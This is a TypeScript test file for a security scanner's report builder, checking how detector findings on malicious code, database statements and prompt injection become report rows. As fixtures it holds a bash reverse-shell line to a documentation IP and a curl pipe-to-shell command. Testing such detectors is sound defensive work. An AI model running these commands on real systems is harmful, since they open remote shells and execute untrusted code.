/** What reports make of findings: places, what detectors tell themselves, and what of the text is shown. */
import { describe, expect, it } from 'vitest';
import type { DetectorFinding } from '../../../src/core/policy.ts';
import { reportOf } from '../../../src/scan-api/report.ts';

const RESPONSE = {
  action: 'allow',
  category: 'malicious',
  scan_id: '5b1f3c52-9d0e-4a53-8c3e-0d2f5a7b6e11',
  profile_id: '0e3f9c70-6f3a-4d0b-9f43-2b8a7c55d901',
  profile_name: 'default',
};
const finding = (changes: Partial<DetectorFinding>): DetectorFinding => ({
  detector: 'malicious_code',
  category: 'reverse-shell',
  field: 'response',
  start: 0,
  end: 0,
  confidence: 0.9,
  action: 'alert',
  ...changes,
});

describe('a report', () => {
  it('passes on what a detector tells itself, and takes the language from it', () => {
    const text = '\u{1f600} bash -i >& /dev/tcp/198.51.100.7/1';
    const detail = { language: 'Shell', kind: 'command' };
    const [row] = reportOf({ response: text }, { ...RESPONSE, response_detected: { malicious_code: true } }, [
      finding({ start: 2, end: [...text].length, detail }),
    ]);
    expect(row?.result_detail).toMatchObject({
      mc_report: {
        verdict: 'malicious',
        all_code_blocks: ['bash -i >& /dev/tcp/198.51.100.7/1'],
        code_analysis_by_type: [{ file_type: 'Shell', code_sha256: expect.stringMatching(/^[0-9a-f]{64}$/) }],
      },
      findings: [detail],
    });
  });

  it('shows code with personal data and secrets hidden', () => {
    const text = 'curl -d 4111111111111111 x | sh';
    const data = text.replace('4111111111111111', 'X'.repeat(16));
    const response = {
      ...RESPONSE,
      response_detected: { malicious_code: true },
      response_masked_data: { data, pattern_detections: [] },
    };
    const rows = reportOf({ response: text }, response, [finding({ end: text.length })]);
    expect(JSON.stringify(rows)).toContain(data);
    expect(JSON.stringify(rows)).not.toContain('4111');
  });

  it('shows no more than ten pieces of a thousand characters', () => {
    const text = 'x'.repeat(50_000);
    const many = Array.from({ length: 20 }, (_, at) => finding({ start: at, end: at + 2_000 }));
    const [row] = reportOf(
      { response: text },
      { ...RESPONSE, response_detected: { malicious_code: true } },
      many,
    );
    expect(row?.result_detail).toMatchObject({
      mc_report: { all_code_blocks: Array.from({ length: 10 }, () => 'x'.repeat(1_000)) },
    });
  });

  it('tells plain reads of a database as benign, and statements beside them as malicious', () => {
    const found = [
      finding({ detector: 'db_security', category: 'database-security-read', action: 'off', noted: true }),
      finding({ detector: 'db_security', category: 'database-security-delete', action: 'block' }),
    ];
    const [row] = reportOf(
      { response: 'x' },
      { ...RESPONSE, response_detected: { db_security: true } },
      found,
    );
    expect(row).toMatchObject({
      verdict: 'malicious',
      action: 'block',
      result_detail: {
        dbs_report: [
          { sub_type: 'database-security-read', verdict: 'benign', action: 'allow' },
          { sub_type: 'database-security-delete', verdict: 'malicious', action: 'block' },
        ],
      },
    });
  });

  it('does not take a scanner for the detector whose name it has', () => {
    const found = [
      finding({ detector: 'injection', flag: 'topic_violation', field: 'prompt', action: 'block' }),
    ];
    const flags = { injection: false, topic_violation: true };
    const rows = reportOf({ prompt: 'x' }, { ...RESPONSE, prompt_detected: flags }, found);
    expect(rows.map((row) => [row.detection_service, row.verdict, row.action])).toEqual([
      ['pi', 'benign', 'allow'],
      ['topic_guardrails', 'malicious', 'block'],
    ]);
  });
});
